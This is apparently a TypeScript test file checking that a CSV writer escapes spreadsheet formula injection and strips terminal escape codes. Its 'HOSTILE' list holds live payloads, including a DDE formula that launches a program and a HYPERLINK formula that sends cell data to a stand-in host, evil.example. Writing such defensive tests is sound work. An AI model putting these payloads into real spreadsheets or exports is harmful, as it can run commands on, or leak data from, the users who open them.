import { expect, test } from 'vitest'
import { csvLine } from './csv-cell.ts'

/** Reads a line of CSV as RFC 4180 says. */
function parsed(line: string): readonly string[] {
  const cells = [...line.replace(/\n$/, '').matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",\n]*))/g)]
  return cells.map((match) => (match[1] === undefined ? (match[2] ?? '') : match[1].replaceAll('""', '"')))
}

const HOSTILE = [
  "=cmd|'/C calc'!A0",
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '+1+1',
  '-1+1',
  '-2',
  '@SUM(1)',
  '@x',
  '\t=1',
  '\n=1',
  ' =1',
  '  +1',
  '"=1+1"',
  "'=1",
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '=',
  '-',
]

test('cells that a spreadsheet would run get an apostrophe, and read back whole', () => {
  expect(HOSTILE).toHaveLength(20)
  const line = csvLine(HOSTILE, { escape: true })
  expect(parsed(line)).toEqual(HOSTILE.map((cell) => `'${cell}`))
})

test('a carriage return begins no formula either', () => {
  expect(csvLine(['\r=1', '\r\n=1'], { escape: true })).toBe(`"'\n=1","'\n=1"\n`)
})

test('for programs they are as they were', () => {
  expect(parsed(csvLine(HOSTILE, { escape: false }))).toEqual(HOSTILE)
  expect(csvLine(['a,"b"\nc'], { escape: false })).toBe('"a,""b""\nc"\n')
})

test('numbers stay numbers, and what is not known is empty', () => {
  expect(csvLine([-1, 0, 1.5, 1e-7, true, null, '', 'a=b'], { escape: true })).toBe('-1,0,1.5,1e-7,true,,"","a=b"\n')
})

test('nothing in a cell speaks to a terminal', () => {
  expect(csvLine(['\u001b[31mred\u001b[0m\u0007'], { escape: true })).toBe('"red␇"\n')
})
